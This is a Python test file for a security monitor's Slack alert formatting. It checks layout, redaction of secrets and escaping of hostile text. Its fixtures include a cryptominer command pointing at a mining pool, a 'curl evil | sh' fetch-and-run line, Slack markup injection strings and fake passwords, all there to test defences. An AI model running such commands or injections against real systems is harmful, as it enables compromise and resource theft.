"""The layout: whole messages word for word, and laws that hold for any hostile alert."""

import json
import unicodedata
from collections.abc import Callable
from typing import Any

import msgspec
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from slack_sdk.models.blocks import Block

from models.finding import Finding
from pipeline.alert import Alert, Other, make, tree
from pipeline.sinks import render
from pipeline.sinks.fake_slack import as_text, problem
from pipeline.sinks.sample import sample_alert, sample_finding
from probes.event import Container, Process, Remote

START = 1_795_379_467_123_456_789


def plain(text: str) -> dict[str, Any]:
    return {"type": "plain_text", "text": text, "emoji": False}


def preformatted(label: str, text: str) -> dict[str, Any]:
    return {
        "type": "rich_text",
        "elements": [
            {"type": "rich_text_section", "elements": [{"type": "text", "text": label, "style": {"bold": True}}]},
            {"type": "rich_text_preformatted", "elements": [{"type": "text", "text": text}]},
        ],
    }


def test_the_message_of_a_pod() -> None:
    message = render.blocks(sample_alert(START))

    assert [
        {
            "type": "header",
            "text": plain("(high) This is a test of Wonted: new program in shop/checkout: /tmp/.x/kdevtmpfsi"),
        },
        {
            "type": "section",
            "text": plain(
                "First time sh ran /tmp/.x/kdevtmpfsi: 0 of 24,820 runs by sh; nothing new there in 6 d 4 h; "
                "nothing was ever started from /tmp/.x; expected 0.003 per week."
            ),
        },
        {
            "type": "section",
            "fields": [
                plain("Container\ncheckout - 3f2a9c0d4e5f"),
                plain("Pod / node\ncheckout-6d5f-x2k - ip-10-0-3-17"),
                plain("Container IP\n10.244.1.23"),
                plain("Remote\n203.0.113.7:3333 (pool.example)"),
                plain("Image\nregistry.local/checkout:2.14.1"),
                plain("User\nuid 1000"),
                plain("Expected\n0.003 per week (budget 1)"),
                plain("ATT&CK\nT1059, T1036.005"),
            ],
        },
        preformatted("Command", "/tmp/.x/kdevtmpfsi -o pool.example:3333"),
        preformatted(
            "Process tree",
            "tini -- node server.js (4201)\n"
            "  node server.js (4210)\n"
            "    sh -c '/tmp/.x/kdevtmpfsi -o pool.example:3333' (4310)\n"
            "      /tmp/.x/kdevtmpfsi -o pool.example:3333 (4321)  <- this",
        ),
        {
            "type": "context",
            "elements": [
                plain("al_01M82F94VKMGAPDF4Y3A54E378 - 2026-11-22 20:31:07 UTC - enforcing - seen 1 x - nothing lost")
            ],
        },
    ] == message


def test_a_workload_of_the_host_says_none_and_never_leaves_a_field_out(alert: Callable[..., Alert]) -> None:
    bare = alert(
        container=None, argv=(), object=None, severity="critical", user="root", uid=0, expected_per_week=None,
        detector="danger", rule="ptrace", attack=(), lost=12, seen=3,
        why="Learning ended by the clock (forced: evidence 12 %).", mode="forced",
    )  # fmt: skip

    text = as_text(render.blocks(bare))

    assert "Container: none (host)" in text and "Container IP: none" in text and "Remote: none" in text
    assert "Pod / node: none - node-1" in text and "User: uid 0 (root)" in text
    assert "Expected: never (danger list)" in text and "ATT&CK: none" in text
    assert "Command\n  | sh\n" in text and "forced: evidence 12 %" in text
    assert "forced - seen 3 x - 12 events lost" in text


def test_a_dropped_word_shows_in_an_ipv6_address_and_an_unnamed_container(alert: Callable[..., Alert]) -> None:
    fields = dict(
        render.fields(alert(container=Container("c" * 64), object="x", remote=Remote("2001:db8::1", 443), argv=("a",)))
    )

    assert "name unknown - cccccccccccc" == fields["Container"]
    assert ("none", "[2001:db8::1]:443", "none") == (fields["Container IP"], fields["Remote"], fields["Image"])


def test_a_long_command_is_cut_with_a_mark_and_whole_in_the_thread(alert: Callable[..., Alert]) -> None:
    """Padding does not hide the end of a command."""
    long = alert(argv=("/bin/sh", "-c", "true " * 400 + "; curl evil | sh"))

    [command] = [
        block["elements"][1]["elements"][0]["text"]
        for block in render.blocks(long)
        if block["type"] == "rich_text" and block["elements"][0]["elements"][0]["text"] == "Command"
    ]
    thread = "".join(block["elements"][1]["elements"][0]["text"] for [block] in render.whole(long))

    assert 700 == len(command) and "more ...]" in command and command.endswith("; curl evil | sh'")
    assert thread == long.command


def test_a_deep_tree_keeps_its_ends(alert: Callable[..., Alert]) -> None:
    deep = alert()
    steps = tuple(msgspec.structs.replace(deep.tree[0], pid=n) for n in range(20))

    lines = render.tree(msgspec.structs.replace(deep, tree=steps))

    assert 8 == len(lines) and "(0)" in lines[0] and lines[-1].endswith("(19)  <- this") and "13 more" in lines[2]


def test_a_lineage_that_came_in_says_how_and_once(alert: Callable[..., Alert]) -> None:
    shell = Process(10, 5, 0, "sh", "/bin/sh", ("sh",), entered="docker exec")
    child = Process(11, 6, 10, "id", "/bin/id", ("id",), parent=shell, entered="docker exec")
    entered = msgspec.structs.replace(alert(), tree=tree(child))

    assert ["[docker exec] sh (10)", "  id (11)  <- this"] == render.tree(entered)
    assert "[docker exec] sh (10) > id (11)" in render.terminal(entered)


def test_secrets_do_not_leave_by_any_field(finding: Callable[..., Finding]) -> None:
    secret = "hunter2hunter2"
    parent = Process(1, 1, 0, "mysql", "/usr/bin/mysql", ("mysql", f"-p{secret}"))
    process = Process(2, 2, 1, "x", "/x", ("/x", f"--token={secret}"), parent=parent)
    given = finding(why=f"PASSWORD={secret}", what=f"https://u:{secret}@h ran", object=f"https://u:{secret}@h")
    event = msgspec.structs.replace(given.event, process=process)
    made = make(msgspec.structs.replace(given, event=event), id="al_1", incident="in_1", told=START)
    made = msgspec.structs.replace(made, others=(Other(START, f"x --token={secret}", ("x", f"--token={secret}")),))

    messages = [
        render.blocks(made), render.short(made), render.fallback(made), render.headline(made), render.digest([made]),
        render.reply(made, made.others), render.whole(made),
    ]  # fmt: skip

    assert secret not in json.dumps(messages)
    assert "[redacted]" in json.dumps(render.blocks(made))
    assert secret in made.command and secret in json.dumps(made.to_json())


def test_what_a_release_added_is_one_block_and_one_line(alert: Callable[..., Alert]) -> None:
    """Its values are an attacker's: seen as they are, without their secrets where they leave the machine."""
    values = ["exec /bin/sh -> /usr/bin/wget <!channel>\x1b[2J", "file /x read /https://u:hunter2hunter2@h", "c", "d"]
    facts = {"name": "shop:2.14.2", "added": 12, "kinds": {"file": 7, "exec": 4, "connect": 1}, "values": values}
    made = alert(evidence={"release": facts})
    words = "shop:2.14.2 added 12 values: 7 file, 4 exec, 1 connect; e.g. exec /bin/sh -> /usr/bin/wget <!channel>"

    block = render.blocks(made)[3]
    line = next(line for line in render.terminal(made).splitlines() if "Release" in line)

    assert preformatted("Release", block["elements"][1]["elements"][0]["text"]) == block
    assert words + "\\u{1b}[2J" in block["elements"][1]["elements"][0]["text"] and words in line
    assert "hunter2hunter2" not in json.dumps([render.blocks(made), render.fallback(made)])
    assert "hunter2hunter2" in line and "; d" not in line and line.endswith("all: wonted baseline diff shop")
    assert "&lt;!channel&gt;" in render.fallback(made)


def test_fallback_text_has_no_markup_left(alert: Callable[..., Alert]) -> None:
    text = render.fallback(alert(argv=("x", "<!channel>", "<http://evil|bank>", "`rm`", "&lt;")))

    assert "<" not in text and ">" not in text.replace("&gt;", "") and "`" not in text
    assert "&lt;!channel&gt;" in text and "&amp;lt;" in text


def test_a_digest_names_every_command_critical_first(alert: Callable[..., Alert]) -> None:
    alerts = [alert(n, argv=("/bin/cmd", str(n)), severity="low") for n in range(5)]

    text = as_text(render.digest(alerts)[0])

    assert all(f"$ /bin/cmd {n}" in text for n in range(5)) and "(low) 5 alerts in shop" in text
    assert all(part in text for part in ("checkout - 3f2a9c0d4e5f", "IP 10.244.1.23", "remote none"))


Nasty = st.text(st.characters(), max_size=40) | st.sampled_from(
    [
        "<!channel>",
        "<http://e.vil|bank>",
        "```",
        "*x*",
        "\x1b[2J",
        "\u202e",
        "&amp;",
        ":tada:",
        "@here",
        "x" * 1500,
        "`",
    ]
)


@hypothesis_settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    argv=st.lists(Nasty, max_size=40),
    words=st.lists(Nasty, min_size=12, max_size=12),
    depth=st.integers(0, 12),
    others=st.integers(0, 12),
)
def test_no_hostile_text_breaks_a_message(argv: list[str], words: list[str], depth: int, others: int) -> None:
    """Whatever the watched write: one direction, nothing hidden, Slack's limits kept, no markup anywhere."""
    process = Process(1, 1, 0, words[0], words[1], tuple(argv))
    for _ in range(depth):
        process = Process(2, 2, 1, words[2], words[3], tuple(argv), parent=process)
    event = msgspec.structs.replace(
        sample_finding(START).event,
        process=process,
        object=words[4],
        container=Container(words[5], name=words[6], image=words[7], pod=words[8], ip=(words[11],)),
        remote=Remote("203.0.113.7", 1, words[9]),
    )
    release = {"name": words[0], "added": 9, "kinds": {words[1]: 5, words[2]: 4}, "values": words[3:8]}
    evidence = {"release": release} if depth % 2 else {}
    finding = sample_finding(START, event=event, what=words[10], why=words[11], workload=words[9], evidence=evidence)
    alert = make(finding, id="al_1", incident="in_1", told=START, host=words[8])
    alert = msgspec.structs.replace(
        alert, others=tuple(Other(n, alert.command, alert.argv, words[4]) for n in range(others))
    )

    messages = [
        render.blocks(alert, True),
        render.short(alert),
        render.digest([alert] * render.digest_fit([alert] * 30))[0],
    ]
    messages += [render.reply(alert, alert.others)[0], *render.whole(alert)]

    for blocks in messages:
        assert problem({"blocks": blocks}) is None
        assert len("".join(strings(blocks))) <= render.TOTAL
        for block in blocks:
            parsed = Block.parse(block)
            assert parsed is not None
            parsed.validate_json()
            assert "mrkdwn" not in json.dumps(kinds(block))
        for text in strings(blocks):
            assert not [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c != "\n"]
    assert not set(render.fallback(alert)) & set("<>`")
    assert not [c for c in render.terminal(alert) if unicodedata.category(c) in ("Cc", "Cf", "Cs") and c != "\n"]
    assert len(render.terminal(alert).splitlines()) <= 8


def strings(value: Any) -> list[str]:
    """Every text in a message."""
    if isinstance(value, dict):
        own = [value["text"]] if isinstance(value.get("text"), str) else []
        return own + [text for key, inner in value.items() if key != "text" or not own for text in strings(inner)]
    return [text for inner in value for text in strings(inner)] if isinstance(value, list) else []


def kinds(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [value.get("type", ""), *(kind for inner in value.values() for kind in kinds(inner))]
    return [kind for inner in value for kind in kinds(inner)] if isinstance(value, list) else []
